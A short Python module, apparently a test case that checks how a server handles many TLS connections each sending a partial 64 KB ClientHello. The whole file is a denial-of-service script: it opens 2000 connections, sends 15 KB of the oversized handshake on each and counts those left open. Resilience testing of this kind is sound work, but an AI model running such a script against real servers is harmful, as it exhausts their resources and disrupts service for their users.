"""Connections that announce a ClientHello of 64 KB and send 15 KB of it."""

import struct

from attack import Attack, still_open
from server_configurations import TLS

ATTACK = Attack(short=("10Mi", "32Mi"))
CONNECTIONS = 2000


async def run(target):
    # A record of 16,000 bytes, in it a handshake message (1) of 64,000.
    begun = b"\x16\x03\x01" + struct.pack(">H", 16_000) + b"\x01\x00\xfa\x00\x03\x03" + b"x" * 15_000
    opened = await target.many(CONNECTIONS, lambda _: target.connect(TLS))
    await target.one_after_another(opened, begun, 0.001)
    await target.wait()
    return f"{len(opened)} connections with 15 KB of a ClientHello, {still_open(opened)} stayed"
